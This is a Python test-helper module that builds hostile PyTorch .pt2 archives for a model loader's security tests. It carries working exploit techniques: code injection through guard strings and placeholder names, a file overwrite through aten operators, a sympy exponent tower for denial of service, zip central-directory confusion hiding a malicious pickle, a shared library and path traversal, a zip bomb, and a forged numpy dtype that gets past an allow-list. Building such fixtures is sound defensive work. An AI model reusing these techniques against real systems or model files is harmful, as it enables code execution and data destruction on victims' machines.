"""Hostile ``.pt2`` files, built as an attacker builds them, for the loader tests.

Each builder starts from a genuine program (`genuine_members`: ``torch.export.save`` of a
``Linear(4, 3)`` exported with a dynamic batch, with a ``metalearn.json`` extra file) and
changes one thing in it. Torch alone (``torch.export.load``, then the program's module, or
``torch._inductor.aoti_load_package``) runs what the change carries: each ``build_*``
documents what it writes, where torch runs it and what it leaves on disk (``marker``).

* In the program's JSON (`rewrite`): a guard of constants whose string ends the literal
  torch writes around it (`build_guard_program`); a placeholder whose name carries a
  default argument (`build_placeholder_default`); a graph of torch operators that maps a
  file and fills it (`build_file_overwrite`); a shape expression sympy never finishes
  (`build_tower_expression`).
* In the zip (`write_differential`): two central directories, Python's ``zipfile`` reading
  the genuine program's and torch's reader (miniz) a hidden one, which adds a pickled
  constant (`build_hidden_pickle`), an AOTInductor library (`build_hidden_library`) or a
  member whose name leaves torch's extraction folder (`build_hidden_escape`); a member that
  inflates a thousandfold (`build_zip_bomb`).
* `forged_dtype_pickle`: a numpy array pickled with only the names an allow-list of numpy
  types lets through, whose dtype declares an object field over raw bytes.
"""

from __future__ import annotations

import json
import pickle
import re
import shutil
import struct
import subprocess
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import torch

from tests.helpers.pickle_writers import payload_object

METADATA = {"class_names": ["a", "b", "c"]}
"""The genuine program's ``metalearn.json`` extra file."""

# ---------------------------------------------------------------------------------------------
# The zip format (APPNOTE 4.3.7, 4.3.12, 4.3.16), written field by field: the hostile files
# need what no zip library writes (two central directories, a member's deflate stream made by
# hand).

_LOCAL = struct.Struct("<IHHHHHIIIHH")  # signature ... name length, extra length: 30 bytes
_CENTRAL = struct.Struct("<IHHHHHHIIIHHHHHII")  # ... comment length ... local offset: 46
_END = struct.Struct("<IHHHHIIH")  # signature, disks, entries, cd size, cd offset: 22 bytes
_ALIGN = 64  # torch.export.save aligns each member's data to 64 bytes with an extra field
_STORED, _DEFLATED = 0, 8
_DOS_DATE = 0x21  # 1980-01-01


@dataclass(frozen=True)
class Member:
    """One zip member as it lies in the archive.

    Attributes:
        name: its path in the archive.
        stored: its bytes in the archive (deflated when ``method`` is 8).
        crc: the CRC-32 of its inflated bytes.
        size: the length of its inflated bytes.
        method: 0 (stored) or 8 (deflated).
    """

    name: str
    stored: bytes
    crc: int
    size: int
    method: int = _STORED

    @classmethod
    def of(cls, name: str, data: bytes) -> Member:
        """``data`` stored uncompressed under ``name``, as torch stores every member."""
        return cls(name, data, zlib.crc32(data), len(data))


def _local_entry(member: Member, offset: int) -> bytes:
    """The local header and data of ``member`` placed at ``offset``, its data aligned."""
    name = member.name.encode()
    pad = -(offset + _LOCAL.size + len(name) + 4) % _ALIGN
    extra = struct.pack("<HH", 0x4246, pad) + b"Z" * pad  # torch's own padding record, 'FB'
    header = _LOCAL.pack(  # signature, version, flags, method, time, date, crc, sizes
        0x04034B50, 20, 0, member.method, 0, _DOS_DATE, member.crc, len(member.stored),
        member.size, len(name), len(extra),
    )  # fmt: skip
    return header + name + extra + member.stored


def _central_record(member: Member, offset: int, comment: bytes = b"") -> bytes:
    """The central-directory record of ``member`` whose local header is at ``offset``."""
    name = member.name.encode()
    record = _CENTRAL.pack(  # ... as the local header, then comment length, disk, attributes
        0x02014B50, 20, 20, 0, member.method, 0, _DOS_DATE, member.crc, len(member.stored),
        member.size, len(name), 0, len(comment), 0, 0, 0, offset,
    )  # fmt: skip
    return record + name + comment


def _end_record(entries: int, size: int, offset: int) -> bytes:
    return _END.pack(0x06054B50, 0, 0, entries, entries, size, offset, 0)


def _lay_out(members: list[Member], start: int) -> tuple[bytes, list[int]]:
    """The local entries of ``members`` one after the other from ``start``, and each one's
    offset."""
    blob, offsets = b"", []
    for member in members:
        offsets.append(start + len(blob))
        blob += _local_entry(member, start + len(blob))
    return blob, offsets


def write_zip(path: Path, members: list[Member]) -> Path:
    """A plain zip of ``members`` (one central directory), as torch writes a ``.pt2``."""
    blob, offsets = _lay_out(members, 0)
    directory = b"".join(_central_record(m, o) for m, o in zip(members, offsets))
    path.write_bytes(blob + directory + _end_record(len(members), len(directory), len(blob)))
    return path


def _directory(members: list[Member], offsets: dict[Member, int], size: int) -> bytes:
    """The central directory of ``members`` at ``offsets``, its last record's comment
    padding it to ``size`` bytes."""
    length = sum(_CENTRAL.size + len(m.name.encode()) for m in members)
    if not 0 <= size - length < 1 << 16:
        raise ValueError(f"a directory of {length} bytes cannot be padded to {size}")
    comments = [b""] * (len(members) - 1) + [b" " * (size - length)]
    return b"".join(_central_record(m, offsets[m], c) for m, c in zip(members, comments))


def write_differential(path: Path, python_sees: list[Member], torch_sees: list[Member]) -> Path:
    """One file that Python's ``zipfile`` reads as ``python_sees`` and torch's reader as
    ``torch_sees``.

    Layout: the members only torch sees, then ``python_sees`` (the members both see are
    stored once), then torch's central directory at offset X and Python's right after it,
    both S bytes long (the shorter padded with a file comment), then one end record stating
    offset X, size S and torch's number of entries. torch's reader (miniz) reads the
    directory at X, as stated. Python's ``zipfile`` reads the S bytes right before the end
    record and takes the gap, ``end - S - X = S``, for data prepended to the archive (a
    self-extracting stub): it adds S to every local-header offset of its directory, whose
    offsets are therefore written S short; it never reads the entry count.
    """
    size = max(
        sum(_CENTRAL.size + len(m.name.encode()) for m in ms) for ms in (python_sees, torch_sees)
    )
    torch_only = [m for m in torch_sees if m not in python_sees]
    head, head_offsets = _lay_out(torch_only, 0)
    start = max(len(head), size)  # Python's offsets, S short, must not be negative
    body, body_offsets = _lay_out(python_sees, start)
    real = dict(zip(torch_only + python_sees, head_offsets + body_offsets))
    stated = {m: real[m] - size for m in python_sees}
    directories = _directory(torch_sees, real, size) + _directory(python_sees, stated, size)
    end = _end_record(len(torch_sees), size, start + len(body))
    path.write_bytes(head + bytes(start - len(head)) + body + directories + end)
    return path


# ---------------------------------------------------------------------------------------------
# The genuine program and its JSON


def genuine_members(path: Path) -> list[Member]:
    """A genuine ``.pt2`` written at ``path`` by torch and its members, in torch's order.

    The program: ``torch.nn.Linear(4, 3)`` (seeded 0) exported on a (2, 4) input whose batch
    dimension is dynamic, saved with ``METADATA`` as its ``metalearn.json`` extra file. Its
    members' names start with ``path``'s stem, the archive's root folder.
    """
    torch.manual_seed(0)
    program = torch.export.export(
        torch.nn.Linear(4, 3),
        (torch.randn(2, 4),),
        dynamic_shapes=({0: torch.export.Dim.DYNAMIC},),
    )
    torch.export.save(program, path, extra_files={"metalearn.json": json.dumps(METADATA)})
    with zipfile.ZipFile(path) as archive:
        return [Member.of(name, archive.read(name)) for name in archive.namelist()]


def _root(members: list[Member]) -> str:
    return members[0].name.split("/")[0]


def model_json(members: list[Member]) -> str:
    """The member name of the program's serialized model (``<root>/models/model.json``)."""
    return f"{_root(members)}/models/model.json"


def rewrite(
    members: list[Member],
    changes: dict[str, bytes] | None = None,
    extra: dict[str, bytes] | None = None,
) -> list[Member]:
    """``members`` with the bytes of those named in ``changes`` replaced and the members
    ``extra`` (names below the archive's root) added at the end."""
    changes, root = changes or {}, _root(members)
    out = [Member.of(m.name, changes[m.name]) if m.name in changes else m for m in members]
    return out + [Member.of(f"{root}/{name}", data) for name, data in (extra or {}).items()]


def _edit_json(members: list[Member], name: str, edit: Callable[[Any], None]) -> bytes:
    (member,) = [m for m in members if m.name == name]
    tree = json.loads(member.stored)
    edit(tree)
    return json.dumps(tree).encode()


def _safe_path(path: Path) -> str:
    """``path`` as it is written into a payload's string literals and shell command: letters,
    digits and ``_.-/`` only, so that no quoting is needed."""
    text = str(path.resolve())
    if not re.fullmatch(r"[\w./-]+", text):
        raise ValueError(f"{text!r}: a payload path must need no quoting")
    return text


# ---------------------------------------------------------------------------------------------
# 1-3, 8: the program's JSON


def build_guard_program(folder: Path, marker: Path) -> Path:
    """``guard.pt2``: the genuine program with one guard made of constants only,
    ``1 == '"+str(__import__("os").system("touch MARKER"))+"'``.

    Why it is live: when the module is built (``ExportedProgram.module()``), torch
    (``torch.export._unlift._convert_guards_code_to_fn``) writes each guard twice into the
    source of a function it ``exec``s: as code, and in the message
    ``"Guard failed: <guard>"``, the guard unparsed by ``ast`` (which quotes the string
    constant with ``'``, since it holds ``"``). The constant's first ``"`` ends that message's
    literal, so the message becomes ``"Guard failed: 1 == '" + str(os.system(...)) + "'"``:
    a call, evaluated as the message argument each time the module is called, before the
    guard (false) raises. Every call creates ``marker``.
    """
    out = folder / "guard.pt2"
    members = genuine_members(out)
    guard = f"""1 == '"+str(__import__("os").system("touch {_safe_path(marker)}"))+"'"""
    model = _edit_json(members, model_json(members), lambda m: m.update(guards_code=[guard]))
    return write_zip(out, rewrite(members, {model_json(members): model}))


def _rename_tensor(tree: Any, old: str, new: str) -> None:
    """Renames the tensor ``old`` to ``new`` in a serialized graph: wherever an argument
    names it (``{"as_tensor": {"name": old}}``) and as its ``tensor_values`` key."""
    if isinstance(tree, dict):
        if tree.get("as_tensor") == {"name": old}:
            tree["as_tensor"] = {"name": new}
        values = tree.get("tensor_values")
        if isinstance(values, dict) and old in values:
            values[new] = values.pop(old)
        for value in tree.values():
            _rename_tensor(value, old, new)
    elif isinstance(tree, list):
        for value in tree:
            _rename_tensor(value, old, new)


def build_placeholder_default(folder: Path, marker: Path) -> Path:
    """``placeholder.pt2``: the genuine program whose user input (the placeholder
    ``input``) is renamed ``x, _y=__import__('os').system('touch MARKER')``.

    Why it is live: FX writes a placeholder's target, as it is, into the generated
    ``def forward(self, p_weight, p_bias, <target>):`` and ``exec``s it when the graph
    module is built (``GraphModule.recompile``); the name becomes two parameters, the second
    with a default argument, and Python evaluates a default when it runs the ``def``. So
    ``torch.export.load`` itself creates ``marker``: ``ExportedProgram.__init__`` builds the
    graph module before it runs its verifiers.
    """
    out = folder / "placeholder.pt2"
    members = genuine_members(out)
    name = f"x, _y=__import__('os').system('touch {_safe_path(marker)}')"
    model = _edit_json(members, model_json(members), lambda m: _rename_tensor(m, "input", name))
    return write_zip(out, rewrite(members, {model_json(members): model}))


FILL_BYTE = 0x41
"""The byte `build_file_overwrite`'s program writes over its victim."""


def _tensor_meta(size: int) -> dict:
    """The serialized meta of a 1-d uint8 CPU tensor of ``size`` elements."""
    return {
        "dtype": 1,
        "sizes": [{"as_int": size}],
        "requires_grad": False,
        "device": {"type": "cpu", "index": None},
        "strides": [{"as_int": 1}],
        "storage_offset": {"as_int": 0},
        "layout": 7,
    }


def _node(target: str, inputs: list[tuple[str, dict, int]], output: str) -> dict:
    return {
        "target": target,
        "inputs": [{"name": n, "arg": a, "kind": k} for n, a, k in inputs],
        "outputs": [{"as_tensor": {"name": output}}],
        "metadata": {},
        "is_hop_single_tensor_return": None,
        "name": output,
    }


def build_file_overwrite(folder: Path, marker: Path, size: int = 16) -> Path:
    """``overwrite.pt2``: the genuine program with two nodes before its ``linear``, both
    torch operators: ``victim = aten.from_file(MARKER, shared=True, size=size,
    dtype=torch.uint8)`` and ``aten.fill_.Scalar(victim, FILL_BYTE)``.

    Why it is live: nothing in the graph names Python, only ``torch.ops.aten`` operators,
    which the training-IR verifier accepts (mutation included). ``from_file`` with
    ``shared=True`` maps the file ``marker`` (created, ``size`` bytes long, if missing) into
    a tensor whose writes reach the file, and ``fill_`` writes it in place. Each call of the
    program's module overwrites the first ``size`` bytes of ``marker`` with ``FILL_BYTE``,
    and still returns the linear layer's output.
    """
    out = folder / "overwrite.pt2"
    members = genuine_members(out)
    kw, pos = 2, 1  # ArgumentKind: POSITIONAL = 1, KEYWORD = 2

    def add(model: dict) -> None:
        graph = model["graph_module"]["graph"]
        mapped = _node(
            "torch.ops.aten.from_file.default",
            [
                ("filename", {"as_string": _safe_path(marker)}, pos),
                ("shared", {"as_bool": True}, pos),
                ("size", {"as_int": size}, pos),
                ("dtype", {"as_scalar_type": 1}, kw),  # ScalarType.BYTE
            ],
            "victim",
        )
        filled = _node(
            "torch.ops.aten.fill_.Scalar",
            [
                ("self", {"as_tensor": {"name": "victim"}}, pos),
                ("value", {"as_int": FILL_BYTE}, pos),
            ],
            "filled",
        )
        graph["nodes"][:0] = [mapped, filled]
        graph["tensor_values"].update(victim=_tensor_meta(size), filled=_tensor_meta(size))

    model = _edit_json(members, model_json(members), add)
    return write_zip(out, rewrite(members, {model_json(members): model}))


TOWER = "Pow(9, Pow(9, 9))"
"""`build_tower_expression`'s shape expression: 9 ** 387420489, an integer of 369,693,100
decimal digits (1.2 gigabits)."""


def build_tower_expression(folder: Path, marker: Path) -> Path:
    """``tower.pt2``: the genuine program whose every shape expression (``expr_str``, the
    dynamic batch size ``Symbol('s..', ...)``) is ``TOWER``; ``marker`` is not used.

    Why it is live: ``torch.export.load`` parses each ``expr_str`` with ``sympy.sympify``
    (``ExportedProgramDeserializer._parse_sym_expr``), which evaluates ``Pow`` of integers
    exactly: ``Pow`` is inside any grammar of sympy's names, yet the load then spends about
    an hour of one core on one multiplication chain (extrapolated, not run: ``9 ** 9 ** 7``
    took 2 s and ``9 ** 9 ** 8`` 95 s in CPython on a shared, loaded 2-core machine, each
    ninefold exponent about 45 times longer). Build it; do not load it.
    """
    del marker
    out = folder / "tower.pt2"
    members = genuine_members(out)
    (model,) = [m for m in members if m.name == model_json(members)]
    text, count = re.subn(r'"expr_str": "[^"]*"', f'"expr_str": "{TOWER}"', model.stored.decode())
    assert count > 0, "the genuine program has no shape expression"
    return write_zip(out, rewrite(members, {model.name: text.encode()}))


# ---------------------------------------------------------------------------------------------
# 4-6: members only torch sees


def _hidden(folder: Path, name: str, change: Callable[[list[Member]], list[Member]]) -> Path:
    """``name`` in ``folder``: the genuine program for Python's ``zipfile``, the program
    ``change``d for torch's reader (`write_differential`)."""
    out = folder / name
    members = genuine_members(out)
    return write_differential(out, members, change(members))


def build_hidden_pickle(folder: Path, marker: Path) -> Path:
    """``pickle.pt2``: torch sees a constants config with one more entry, ``opaque_obj_0``
    (``"use_pickle": true``), and its member ``data/constants/opaque_obj_0``, a pickle whose
    loading ``exec``s ``open(MARKER, 'w').close()``; Python's ``zipfile`` sees the genuine
    program, whose constants config is empty.

    Why it is live: ``torch.export.load`` reads every constant its config names before it
    builds the program, one whose member name starts ``opaque_obj`` through
    ``pickle.loads`` (a ``tensor_`` one with ``"use_pickle": true`` through
    ``torch.load(weights_only=False)``).
    """

    def add(members: list[Member]) -> list[Member]:
        config = f"{_root(members)}/data/constants/model_constants_config.json"
        entry = {
            "path_name": "opaque_obj_0",
            "is_param": False,
            "use_pickle": True,
            "tensor_meta": None,
        }
        edited = _edit_json(members, config, lambda c: c["config"].update(opaque_obj_0=entry))
        payload = pickle.dumps(payload_object(_safe_path(marker)))
        return rewrite(members, {config: edited}, {"data/constants/opaque_obj_0": payload})

    return _hidden(folder, "pickle.pt2", add)


_CONSTRUCTOR = r"""
#include <stdio.h>
__attribute__((constructor)) static void hit(void) {
    FILE *f = fopen("%s", "w");
    if (f) { fputs("ran", f); fclose(f); }
}
"""


def compiler() -> str | None:
    """The C compiler `build_hidden_library` uses, or None where there is none."""
    return shutil.which("gcc") or shutil.which("cc")


AOTI_MODEL = "data/aotinductor/model/"
"""Where an AOTInductor model's members lie in a ``.pt2`` (the model named ``model``)."""


def _aoti_members(library: bytes | None = None) -> dict[str, bytes]:
    """The least an AOTInductor model needs for torch's C++ loader to reach its library:
    ``wrapper_metadata.json`` (read first, by ``load_metadata_from_package``, for the device
    key), ``wrapper.cpp`` (whose name gives the metadata's, ``wrapper_metadata.json`` again)
    and, if given, ``library`` as ``wrapper.so`` (then the ``.cpp`` is never compiled)."""
    members = {
        AOTI_MODEL + "wrapper_metadata.json": json.dumps({"AOTI_DEVICE_KEY": "cpu"}).encode(),
        AOTI_MODEL + "wrapper.cpp": b"// never compiled: wrapper.so is there\n",
    }
    if library is not None:
        members[AOTI_MODEL + "wrapper.so"] = library
    return members


def build_hidden_library(folder: Path, marker: Path) -> Path:
    """``library.pt2``: torch sees an AOTInductor model (`AOTI_MODEL`: its metadata, a
    ``.cpp`` and ``wrapper.so``, a shared library whose constructor writes ``ran`` to
    ``marker``); Python's ``zipfile`` sees the genuine program. Needs a C compiler
    (`compiler`).

    Why it is live: ``torch.export.load`` (as ``torch._inductor.aoti_load_package``) takes
    any member under ``data/aotinductor/NAME/`` for an AOTInductor model and hands the
    archive to its C++ loader, which extracts the model's members and ``dlopen``s its
    ``.so``: the dynamic loader runs the library's constructors before torch looks for the
    model's entry points (which this library lacks, so loading then fails).
    """
    cc = compiler()
    if cc is None:
        raise RuntimeError("no C compiler (gcc or cc) to build the library")
    source, library = folder / "hit.c", folder / "hit.so"
    source.write_text(_CONSTRUCTOR % _safe_path(marker))
    subprocess.run([cc, "-shared", "-fPIC", "-o", str(library), str(source)], check=True)
    data = library.read_bytes()
    source.unlink()
    library.unlink()
    return _hidden(folder, "library.pt2", lambda ms: rewrite(ms, extra=_aoti_members(data)))


ESCAPED = b"escaped the extraction folder\n"
"""The bytes `build_hidden_escape`'s member writes at ``marker``."""


def escape_name(marker: Path) -> str:
    """A member name under `AOTI_MODEL` that names ``marker``'s absolute path: enough
    ``../`` to climb to the root from any extraction folder (a ``..`` at the root stays
    there), then the path."""
    return AOTI_MODEL + "../" * 32 + _safe_path(marker).lstrip("/")


def build_hidden_escape(folder: Path, marker: Path) -> Path:
    """``escape.pt2``: torch sees an AOTInductor model (its metadata and ``.cpp``, no
    library) and one more member, named `escape_name` (``../`` then ``marker``'s path),
    holding ``ESCAPED``; Python's ``zipfile`` sees the genuine program. ``marker``'s folder
    must exist.

    Why it is live: ``torch.export.load`` (as ``torch._inductor.aoti_load_package``) hands
    the archive to AOTInductor's C++ loader, which extracts each member of the model to its
    temporary folder joined with the member's name, unchecked: the file lands at ``marker``,
    outside that folder. Loading then fails, for want of a library, after the write.
    """
    extra = {**_aoti_members(), escape_name(marker): ESCAPED}
    return _hidden(folder, "escape.pt2", lambda ms: rewrite(ms, extra=extra))


# ---------------------------------------------------------------------------------------------
# 7: a zip bomb

BOMB_CHUNK = 1 << 20
"""The inflated length of one repeated deflate segment of `build_zip_bomb`."""


def build_zip_bomb(folder: Path, marker: Path, megabytes: float = 1.6) -> Path:
    """``bomb.pt2``: the genuine program whose ``extra/metalearn.json`` is a deflated member
    of about ``megabytes`` MB that inflates about a thousandfold (to gigabytes of spaces);
    ``marker`` is not used.

    How: one MiB of spaces deflated (raw, level 9) and full-flushed is a byte-aligned run of
    blocks that refers to nothing before it, so the same bytes repeated N times inflate to
    N MiB; a final empty block ends the stream. The CRC is of the N MiB, so a reader that
    inflates it all finds it valid. Nothing here inflates it.
    """
    del marker
    out = folder / "bomb.pt2"
    members = genuine_members(out)
    squeeze = zlib.compressobj(9, zlib.DEFLATED, -15)
    segment = squeeze.compress(b" " * BOMB_CHUNK) + squeeze.flush(zlib.Z_FULL_FLUSH)
    final = zlib.compressobj(9, zlib.DEFLATED, -15).flush()  # an empty final block
    count = int(megabytes * 1e6) // len(segment)
    crc, block = 0, b" " * BOMB_CHUNK
    for _ in range(count):
        crc = zlib.crc32(block, crc)
    name = f"{_root(members)}/extra/metalearn.json"
    bomb = Member(name, segment * count + final, crc, count * BOMB_CHUNK, _DEFLATED)
    return write_zip(out, [bomb if m.name == name else m for m in members])


# ---------------------------------------------------------------------------------------------
# 9: a forged numpy dtype

WILD_POINTER = 0x4141414141414141
"""The raw bytes of `forged_dtype_pickle`'s array, read as a ``PyObject*``: not an address."""


def forged_dtype_pickle() -> bytes:
    """A pickle (protocol 3, written opcode by opcode) of a one-element array whose
    structured dtype has one field, ``f``, of dtype ``'O'`` (a Python object) at offset 0,
    over the raw bytes of ``WILD_POINTER``.

    It names only ``numpy.dtype``, ``numpy.core.multiarray._reconstruct`` and
    ``numpy.ndarray``, what an allow-list for numpy arrays admits; the rest is tuples,
    strings, integers, booleans and bytes.

    Why it is live: the dtype is ``numpy.dtype('V8', False, True)`` (an 8-byte void) given
    its state by BUILD (``dtype.__setstate__``), as numpy pickles any structured dtype; the
    forged state declares the object field with a flags word of 16 (``NPY_NEEDS_PYAPI``, a
    void dtype's own), which says the dtype holds no object. numpy keeps the stated flags,
    so ``ndarray.__setstate__`` copies the raw bytes into the array (it refuses raw bytes
    only for a dtype flagged ``NPY_LIST_PICKLE``, as a genuine object dtype is). Reading the
    field takes the 8 bytes for a ``PyObject*`` and increments the count it points at.
    """
    P = pickle  # the opcodes, by their names in the pickle module

    def glob(module: str, name: str) -> bytes:
        return P.GLOBAL + f"{module}\n{name}\n".encode()

    def text(s: str) -> bytes:
        return P.BINUNICODE + struct.pack("<I", len(s.encode())) + s.encode()

    def integer(n: int) -> bytes:
        return P.BININT + struct.pack("<i", n)

    def raw(data: bytes) -> bytes:
        return P.SHORT_BINBYTES + bytes([len(data)]) + data

    def dtype(code: str) -> bytes:  # numpy.dtype(code, False, True)
        return glob("numpy", "dtype") + text(code) + P.NEWFALSE + P.NEWTRUE + P.TUPLE3 + P.REDUCE

    # (3, '|', None, ('f',), {'f': (dtype('O'), 0)}, 8, 1, 16): version, byte order,
    # subarray, names, fields, item size, alignment, flags
    fields = P.EMPTY_DICT + text("f") + dtype("O") + integer(0) + P.TUPLE2 + P.SETITEM
    state = (P.MARK + integer(3) + text("|") + P.NONE + text("f") + P.TUPLE1 + fields
             + integer(8) + integer(1) + integer(16) + P.TUPLE)  # fmt: skip
    forged = dtype("V8") + state + P.BUILD
    # _reconstruct(ndarray, (0,), b'b'), then its state (1, (1,), dtype, False, raw bytes):
    # version, shape, dtype, Fortran order, data
    array = (glob("numpy.core.multiarray", "_reconstruct") + glob("numpy", "ndarray")
             + integer(0) + P.TUPLE1 + raw(b"b") + P.TUPLE3 + P.REDUCE)  # fmt: skip
    array_state = (P.MARK + integer(1) + integer(1) + P.TUPLE1 + forged + P.NEWFALSE
                   + raw(struct.pack("<Q", WILD_POINTER)) + P.TUPLE)  # fmt: skip
    return P.PROTO + b"\x03" + array + array_state + P.BUILD + P.STOP
